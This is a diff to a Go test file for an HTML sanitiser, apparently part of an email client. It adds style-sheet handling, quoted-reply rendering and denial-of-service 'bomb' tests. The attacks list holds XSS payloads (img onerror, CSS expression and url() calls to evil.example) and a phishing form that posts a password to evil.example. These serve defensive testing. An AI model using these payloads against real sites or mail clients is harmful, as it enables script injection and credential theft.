@@ -36,6 +36,9 @@ var attacks = []string{
 	`<title><img src=x onerror=alert(1)></title>`,
 	`<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
 	`<template><img src=x onerror=alert(1)></template>`,
+	`<style>p{background:url(https://evil.example/x);color:red;position:fixed}p{color:expression(1)}p{font-family:"</style><img src=x onerror=alert(1)>"}</style><p>x</p>`,
+	`<style>*{color:red}</style><style>div div div div{color:red}</style><div><div><div><div>x`,
+	`<style>p{color:red}</sty</style><p id=a class="b c">x</p><style>.b{color:blue</style><p class=b>y`,
 	`<form action="https://evil.example"><input name=password><button>send</button></form>`,
 	`<iframe src="https://evil.example"></iframe><frame src=x><object data=x></object><embed src=x>`,
 	`<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href=//evil.example>`,
@@ -117,7 +120,13 @@ func TestSanitiseKeepsWhatIsMeantForReading(t *testing.T) {
 		"stray end tags":    {`</object></iframe>a<svg></svg>b`, `ab`},
 		"self-closing":      {`a<svg/>b<br/>c</br>d<hr/>`, `ab<br>c<br>d<hr>`},
 		"quotes":            {`<blockquote type="cite" class="gmail_quote">x</blockquote>`, `<blockquote class="gmail_quote">x</blockquote>`},
-		"nested list":       {`<ul><li>a<ul><li>b</ul><li>c</ul>`, `<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>`},
+		"style sheet": {`<head><style><!-- p.a, #x {color:red;position:fixed} p {margin:0; color:blue} td > b {color:red} /* } */
+			@media print { p {color:black} } @import url(x); div .b{font-size:9pt} a:hover{color:red} p.a{background:url(x)} --></style></head><p class="a">x</p><p style="color:green">y</p><div><i><u class="c b">z</u></i></div>
+			<table><tr><td><b>1</b><i><b>2</b></i></table>`, `<p class="a" style="margin:0;color:red">x</p><p style="margin:0;color:green">y</p><div><i><u class="c b" style="font-size:9pt">z</u></i></div>
+			<table><tbody><tr><td><b style="color:red">1</b><i><b>2</b></i></td></tr></tbody></table>`},
+		"style sheet for paper":  {`<style media=print>p{color:red}</style><p>x</p>`, `<p>x</p>`},
+		"style within a drawing": {`<svg><style>p{color:red}</style></svg><p>x</p>`, `<p>x</p>`},
+		"nested list":            {`<ul><li>a<ul><li>b</ul><li>c</ul>`, `<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>`},
 	}
 	for name, tt := range tests {
 		if d := cmp.Diff(tt.want, Sanitise(tt.foreign)); d != "" {
@@ -129,6 +138,7 @@ func TestSanitiseKeepsWhatIsMeantForReading(t *testing.T) {
 func TestSanitiseComposedKeepsWhatTheEditorMakes(t *testing.T) {
 	t.Parallel()
 	tests := map[string]string{
+		`<div>a</div><div>b<br></div><table><tr><td>c<td>d</table>e`:                      `a<br>b<br>c<br>d<br>e`,
 		`<h1>a</h1><h4>b</h4><p>c <u>d</u> <s>e</s> <code>f</code></p>`:                   `<h1>a</h1>b<p>c <u>d</u> <s>e</s> <code>f</code></p>`,
 		`<p style="color:red" class="x" id="y">a<font>b</font></p>`:                       `<p>ab</p>`,
 		`<span data-type="mention" data-id="7" class="mention" data-x=1>@Ilze</span>`:     `<span class="mention" data-type="mention" data-id="7">@Ilze</span>`,
@@ -161,6 +171,24 @@ func TestRemoteImagesAreShownOnlyThroughTheProxy(t *testing.T) {
 	wantShown := `<img src="/proxy?u=1&amp;v=2" alt="one"><img src="/proxy?u=1&amp;v=2"><img data-remote-src="https://b.example/2.gif"><img src="/part/c">`
 	if d := cmp.Diff(wantShown, shown); d != "" {
 		t.Errorf("ShowRemote, ShowInline: -want +got\n%s", d)
+	}
+}
+
+func TestQuotedLooksAsItWas(t *testing.T) {
+	t.Parallel()
+	s := Sanitise(`<p id=a class=x style="color:red">x <a href="#a">y</a></p><img src="https://a.example/1.png" alt=one><img src="cid:1"><img src="cid:2" alt=two>`)
+	want := `<p class="x" style="color:red">x <a>y</a></p><img alt="one" src="https://a.example/1.png"><img alt="two">`
+	if d := cmp.Diff(want, Quoted(s)); d != "" {
+		t.Errorf("Quoted(%q): -want +got\n%s", s, d)
+	}
+	for _, a := range attacks {
+		q := Quoted(Sanitise(a))
+		for _, f := range judge(Sanitise(q)) {
+			t.Errorf("Quoted(%q) = %q, which has %s", a, q, f)
+		}
+		if direct := Quoted(a); strings.Contains(direct, "alert(1)>") || strings.Contains(direct, "javascript:") {
+			t.Errorf("Quoted(%q) = %q", a, direct)
+		}
 	}
 }
 
@@ -201,6 +229,9 @@ func TestBombsCostLinearTime(t *testing.T) {
 		"end tags":          strings.Repeat("<span>", 250) + strings.Repeat("</div>", n),
 		"links":             strings.Repeat("<a href=https://a.example>", n/5),
 		"attributes":        "<div " + strings.Repeat("a=b ", n) + ">x</div>",
+		"style sheet":       "<style>" + strings.Repeat("div div.a div, * , b{color:red;width:1px} ", 5000) + "</style>" + strings.Repeat("<div><b>", 100) + strings.Repeat("<b class=a></b>", n/10),
+		"unclosed rules":    "<style>" + strings.Repeat("@media{", n) + "</style><p>",
+		"many rules":        strings.Repeat("<style>b{color:red}</style><b></b>", n/20),
 		"many attributes":   strings.Repeat("<p "+strings.Repeat("title=x ", 500)+">", 200),
 		"declarations":      `<p style="` + strings.Repeat("color:red;", n/10) + `">`,
 		"comments":          strings.Repeat("<!--", n),
